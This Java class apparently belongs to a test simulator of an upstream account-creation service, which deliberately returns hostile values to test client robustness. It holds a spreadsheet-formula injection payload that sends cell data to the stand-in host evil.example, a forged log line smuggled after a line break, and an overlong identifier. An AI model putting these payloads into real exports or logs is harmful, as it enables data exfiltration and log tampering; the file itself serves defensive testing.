package org.sisbridge.simulator;

import java.util.ArrayList;
import java.util.List;

/**
 * Two switches for an upstream that answers bulk account creation with values no client should
 * trust: "invalid bulk result" (the first CREATED or EXISTING student of every COMPLETE job comes
 * back with an over-long CCCID that has not the CCCID form) and "formula-like values" (a
 * spreadsheet formula in the first EXISTING student's matchedOn, and error messages that carry a
 * formula, a quoted name, a phone number and a forged log line after a line break).
 * Applied as the answer is written, so the registry keeps the real accounts.
 */
final class HostileBulkValues {

    /** What the "formula-like values" switch puts where a field or message is expected. */
    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")";
    /** An error message with everything an upstream should never send a client's log. */
    static final String MESSAGE = FORMULA + " student \"Jane Doe\" (phone 555-867-5309) failed"
            + "\n2026-01-01 00:00:00.000 ERROR [main] org.sisbridge FORGED log line";
    /** 50 characters: longer than any CCCID column, and not of the CCCID form. */
    static final String OVERLONG_CCCID = "ABC1234" + "Z".repeat(43);

    private final boolean invalidResult;
    private final boolean formulaLike;

    HostileBulkValues(SimulatorSettings settings) {
        this.invalidResult = settings.invalidBulkResult;
        this.formulaLike = settings.formulaLikeValues;
    }

    /** The results of a COMPLETE job as this upstream answers them. */
    List<AccountOutcome> results(List<AccountOutcome> decided) {
        if (!invalidResult && !formulaLike) {
            return decided;
        }
        List<AccountOutcome> answered = new ArrayList<>(decided);
        if (invalidResult) {
            replaceFirst(answered, "CREATED", "EXISTING", o ->
                    new AccountOutcome(o.localId(), o.outcome(), OVERLONG_CCCID, o.matchedOn(), o.errors()));
        }
        if (formulaLike) {
            replaceFirst(answered, "EXISTING", "EXISTING", o -> {
                List<String> matchedOn = new ArrayList<>(o.matchedOn());
                matchedOn.add(0, FORMULA);
                return new AccountOutcome(o.localId(), o.outcome(), o.cccid(), matchedOn, o.errors());
            });
        }
        return answered;
    }

    /** The message of an error body or of a FAILED job. */
    String message(String ordinary) {
        return formulaLike ? MESSAGE : ordinary;
    }

    private static void replaceFirst(List<AccountOutcome> results, String outcome, String orOutcome,
                                     java.util.function.UnaryOperator<AccountOutcome> change) {
        for (int i = 0; i < results.size(); i++) {
            AccountOutcome o = results.get(i);
            if (o.outcome().equals(outcome) || o.outcome().equals(orOutcome)) {
                results.set(i, change.apply(o));
                return;
            }
        }
    }
}
